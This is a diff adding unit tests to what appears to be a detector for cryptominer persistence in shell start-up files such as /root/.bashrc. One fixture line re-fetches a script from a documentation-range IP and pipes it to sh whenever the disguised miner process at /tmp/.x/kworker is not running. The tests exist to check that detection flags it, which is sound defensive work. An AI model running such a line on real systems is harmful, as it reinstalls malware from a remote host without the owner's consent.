@@ -296,3 +296,23 @@ describe('a unit of an account’s own manager', () => {
     ]);
   });
 });
+
+describe('an administrator’s profile that names the miner and fetches elsewhere', () => {
+  const image = minerImage('/tmp/.x/kworker');
+  const of = (...lines: string[]) =>
+    minedHost(packedMiner, {
+      files: [image],
+      persistence: [autostart('/root/.bashrc', lines.map((line) => `${line}\n`).join(''))],
+    });
+  const fetching = 'update_tools() { curl -fsSL https://tools.corp.example/install.sh | sh; }';
+
+  it('is not ticked for an alias or a test of another line', () => {
+    const asking = ['[ -e /tmp/.x/kworker ] && echo "it is back"', "alias k='pkill -f /tmp/.x/kworker'"];
+    expect(ticked(of(...asking, fetching)).starters).toEqual([]);
+  });
+
+  it('is ticked where one line asks and fetches', () => {
+    const both = 'pgrep -f /tmp/.x/kworker >/dev/null || curl -fsSL http://203.0.113.77/i.sh | sh';
+    expect(ticked(of('umask 022', both)).starters).toEqual(['/root/.bashrc']);
+  });
+});
